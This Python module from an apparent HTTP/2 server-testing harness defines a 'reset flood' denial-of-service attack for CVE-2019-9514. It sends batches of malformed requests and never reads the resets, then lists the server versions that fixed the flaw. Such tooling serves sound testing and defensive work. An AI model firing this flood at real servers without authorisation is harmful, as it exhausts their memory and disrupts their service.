"""Reset flood (CVE-2019-9514): requests the server must refuse stream by stream (an upper-case field
name makes a request malformed: RFC 9113 sections 8.2.1 and 8.1.1), never reading the RST_STREAM frames,
so a server that queues them grows its send queue."""
from h2grid.attacks.base import Attack, Fix
from h2grid.attacks.hpackraw import literal, request

STREAMS = 100

ATTACK_FIELD = literal(b"X-Upper-Case", b"1")


def batch(conn) -> bytes:
    block = request(conn) + ATTACK_FIELD
    return b"".join(conn.headers(conn.stream_id(), block) for _ in range(STREAMS))


ATTACK = Attack(
    key="reset-flood", title="Reset flood", cve="CVE-2019-9514", rfc="RFC 9113 sections 8.1.1 and 8.2.1 (malformed requests)",
    sends=f"malformed requests (an upper-case field name), {STREAMS} streams per write, never reading the resets",
    batch=batch, reads=False,
    fixes=(Fix("twisted", "19.7.0", "buffered control frames bounded (twisted#9694)"),
           Fix("go", "go1.12.8", "the control-frame queue bound closes the connection (CVE-2019-9514, golang/go#33606)"),
           Fix("hypercorn", "", "no limit of its own")),
)
